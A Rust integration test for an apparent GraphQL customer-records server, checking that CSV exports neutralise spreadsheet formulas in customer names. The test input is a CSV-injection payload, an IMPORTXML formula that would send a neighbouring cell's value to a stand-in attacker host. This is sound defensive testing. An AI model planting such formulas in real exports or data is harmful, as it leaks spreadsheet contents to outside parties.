//! Exports a manager opens in a spreadsheet, over HTTP against the server
//! process: a customer's name that starts like a formula is shown as text,
//! never run (CSV injection), on both engines.

use std::time::Duration;

use serde_json::{json, Value};
use tests::{Engine, TestDb};

const ADMIN: (&str, &str) = ("owner@dirtfree.example", "correct horse battery");

async fn gql(
    s: &tests::ServerProcess,
    token: Option<&str>,
    query: &str,
    variables: Value,
) -> Value {
    let mut req = reqwest::Client::new()
        .post(&s.url)
        .json(&json!({ "query": query, "variables": variables }));
    if let Some(t) = token {
        req = req.bearer_auth(t);
    }
    req.send().await.expect("send").json().await.expect("json")
}

fn data<'a>(v: &'a Value, path: &str) -> &'a Value {
    assert!(v.get("errors").is_none(), "unexpected errors: {v}");
    v.pointer(path)
        .unwrap_or_else(|| panic!("{path} missing in {v}"))
}

async fn a_formula_in_a_customer_name_is_exported_as_text(engine: Engine) {
    let db = TestDb::new(engine).await;
    let s = tests::ServerProcess::start(
        env!("CARGO_BIN_EXE_dirtfree-api"),
        &[
            ("ADMIN_EMAIL", ADMIN.0),
            ("ADMIN_PASSWORD", ADMIN.1),
            ("DEMO_SEED", "off"),
            ("DATABASE_URL", &db.url),
        ],
        Duration::from_secs(120),
    )
    .await;
    let r = gql(
        &s,
        None,
        "mutation($i: LoginInput!) { login(input: $i) { token } }",
        json!({"i": {"email": ADMIN.0, "password": ADMIN.1}}),
    )
    .await;
    let admin = data(&r, "/data/login/token")
        .as_str()
        .expect("token")
        .to_string();
    let formula = "=IMPORTXML(CONCAT(\"https://evil.example/?\",B2),\"//a\")";
    let mut last = Value::Null;
    for (name, phone) in [(formula, "+15125550100"), ("Ada Lovelace", "+15125550101")] {
        let c = gql(
            &s,
            Some(&admin),
            "mutation($i: CreateCustomerInput!) { createCustomer(input: $i) { position } }",
            json!({"i": {"name": name, "phone": phone}}),
        )
        .await;
        last = data(&c, "/data/createCustomer/position").clone();
    }
    let synced = gql(
        &s,
        Some(&admin),
        "query($p: String!) { sync(position: $p, timeoutMs: 10000) }",
        json!({"p": last}),
    )
    .await;
    assert_eq!(data(&synced, "/data/sync"), true);
    let csv = gql(
        &s,
        Some(&admin),
        "{ exportCsv(report: CUSTOMERS) }",
        json!({}),
    )
    .await;
    let csv = data(&csv, "/data/exportCsv")
        .as_str()
        .expect("csv")
        .to_string();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let names: Vec<(String, String)> = reader
        .records()
        .map(|r| {
            let r = r.expect("record");
            (r[1].to_string(), r[3].to_string())
        })
        .collect();
    assert!(
        names.contains(&(format!("'{formula}"), "+15125550100".to_string())),
        "the formula is not neutralised (or the phone was changed): {names:?}"
    );
    assert!(
        names.contains(&("Ada Lovelace".to_string(), "+15125550101".to_string())),
        "{names:?}"
    );
    tests::health::assert_no_failures(&s.base).await;
}

tests::on_both_engines!(a_formula_in_a_customer_name_is_exported_as_text);
